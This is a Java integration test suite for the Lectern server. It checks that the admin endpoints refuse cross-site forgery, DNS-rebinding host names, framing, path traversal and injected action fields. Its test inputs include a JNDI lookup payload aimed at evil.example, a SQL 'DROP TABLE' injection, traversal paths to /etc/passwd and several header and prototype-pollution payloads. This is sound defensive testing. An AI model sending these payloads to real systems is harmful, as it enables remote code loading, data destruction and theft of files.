package dev.lectern.attack;

import static org.assertj.core.api.Assertions.assertThat;

import dev.lectern.testing.LecternClient;
import dev.lectern.testing.LecternServer;
import dev.lectern.testing.RawHttp.Reply;
import dev.lectern.testing.TestPostgres;
import java.io.IOException;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/// An operator's browser on this machine, where no token is needed, and a page of another site in it. Where there is a
/// token, `AdminAccessIT` and `IdentitiesIT` show what it opens.
class CrossSiteIT {

    private static LecternServer lectern;
    private static Attacker page;
    private static Attacker reader;

    @BeforeAll
    static void start() {
        lectern = LecternServer.start(TestPostgres.jdbcUrl(TestPostgres.freshDatabase()), Map.of());
        page = Attacker.atAdminPort(lectern);
        try (LecternClient client = lectern.reader()) {
            reader = Attacker.at(lectern).as(client.token());
        }
    }

    @AfterAll
    static void stop() {
        lectern.close();
    }

    /// Whatever was tried, the server still serves.
    @AfterEach
    void nothing_was_paused() throws IOException {
        assertThat(reader.sendJson("POST /api/v1/conversations", "{}").status()).isEqualTo(201);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            /api/actions/pause             | Content-Type: application/x-www-form-urlencoded
            /api/actions/pause             | Content-Type: text/plain
            /api/actions/pause             | Content-Type: multipart/form-data; boundary=b
            /api/actions/pause             | Origin: null
            /api/actions/evict-connections | Origin: https://evil.example
            /tasks/gc                      | Origin: https://evil.example
            /tasks/gc                      | Origin: null
            /tasks/log-level               | Origin: http://localhost:3000
            /tasks/warm-up                 | Sec-Fetch-Site: cross-site
            /tasks/refresh-api-keys        | Sec-Fetch-Site: same-site
            """)
    void a_form_of_another_site_changes_nothing(String path, String header) throws IOException {
        Attacker.refused(page.send("POST " + path, header, "Content-Length: 0"), 403);
    }

    @ParameterizedTest
    @CsvSource({
        "GET /api/actions/pause, 405",
        "GET /tasks/gc, 405",
        "GET /tasks/warm-up, 405",
        "GET /api/actions/pause?_method=POST, 405"
    })
    void looking_changes_nothing(String line, int status) throws IOException {
        Reply reply = page.send(line, "X-HTTP-Method-Override: POST", "X-Lectern-Action: 1");

        assertThat(reply.status()).isEqualTo(status);
    }

    @Test
    void no_other_site_is_told_that_it_may_send_the_header_of_an_action() throws IOException {
        Reply reply = page.send(
                "OPTIONS /api/actions/pause",
                "Origin: https://evil.example",
                "Access-Control-Request-Method: POST",
                "Access-Control-Request-Headers: x-lectern-action");

        assertThat(reply.headers().keySet()).noneMatch(name -> name.startsWith("access-control-"));
        Attacker.refused(
                page.send(
                        "POST /api/actions/pause",
                        "Origin: https://evil.example",
                        "X-Lectern-Action: 1",
                        "Content-Length: 0"),
                403);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "evil.example",
                "localhost.evil.example",
                "127.0.0.1.evil.example",
                "evil.example:8081",
                "0.0.0.0",
                "[::]",
                "2130706433",
                "0x7f000001",
                "127.1",
                "localhost."
            })
    void a_name_that_was_made_to_lead_here_reads_nothing(String host) throws IOException {
        for (String path : new String[] {"/", "/api/config", "/metrics", "/threads", "/console/app.js"}) {
            Attacker.refused(page.calling(host).send("GET " + path, "X-Forwarded-Host: localhost"), 403);
        }
        Attacker.refused(page.calling(host).send("GET http://localhost/api/config"), 400);
    }

    @ParameterizedTest
    @ValueSource(strings = {"/", "/console/index.html", "/api/snapshot", "/metrics", "/threads", "/nowhere"})
    void nothing_is_shown_in_a_frame_or_taken_for_a_script(String path) throws IOException {
        Reply reply = page.send("GET " + path, "Sec-Fetch-Dest: iframe", "Sec-Fetch-Site: cross-site");

        assertThat(reply.header("X-Frame-Options")).isEqualTo("DENY");
        assertThat(reply.header("Content-Security-Policy"))
                .contains("frame-ancestors 'none'", "form-action 'none'", "base-uri 'none'", "script-src 'self'")
                .doesNotContain("unsafe-inline", "unsafe-eval");
        assertThat(reply.header("Cross-Origin-Resource-Policy")).isEqualTo("same-origin");
        assertThat(reply.header("X-Content-Type-Options")).isEqualTo("nosniff");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/console/../config.yml",
                "/console/%2e%2e/config.yml",
                "/console/..%2fconfig.yml",
                "/console/..;/config.yml",
                "/console//etc/passwd",
                "/console/%2fetc%2fpasswd",
                "/console/..\\config.yml",
                "/console/%5c..%5cconfig.yml",
                "/console/index.html%00.js",
                "/console/../dev/lectern/Server.class"
            })
    void no_path_leads_out_of_the_console(String path) throws IOException {
        Reply reply = page.send("GET " + path);

        Attacker.refused(reply, reply.status() == 404 ? 404 : 400);
        assertThat(reply.body()).doesNotContain("root:", "DATABASE_URL");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
            log-level | {"logger": "a\\nb", "level": "DEBUG", "minutes": 1}                          | /logger
            log-level | {"logger": "${jndi:ldap://evil.example/a}", "level": "DEBUG", "minutes": 1} | /logger
            log-level | {"logger": "dev.lectern", "level": "DEBUG", "minutes": 1e99}                 | /minutes
            pause     | {"reason": "a\\u0000b"}                                                      | /reason
            pause     | {"reason": "a\\r\\nforged"}                                                  | /reason
            pause     | {"actor": "\\u001b[31mred"}                                                  | /actor
            pause     | {"__proto__": {"preview": false}}                                            | /__proto__
            terminate-backend | {"pid": "1; DROP TABLE conversation"}                                | /pid
            """)
    void an_action_with_what_it_must_not_hold_is_refused_by_name(String action, String body, String pointer)
            throws IOException {
        Attacker.refused(page.sendJson("POST /api/actions/" + action, body, "X-Lectern-Action: 1"), 400, pointer);
    }

    @Test
    void an_action_without_measure_is_refused() throws IOException {
        String act = "POST /api/actions/pause";
        String header = "X-Lectern-Action: 1";
        Attacker.refused(page.sendJson(act, "{\"reason\": \"" + "a".repeat(20_000) + "\"}", header), 413);
        Attacker.refused(page.sendJson(act, "[".repeat(15_000), header), 400);
        Attacker.refused(page.sendJson(act, "{\"reason\": \"" + "a".repeat(201) + "\"}", header), 400, "/reason");
    }
}
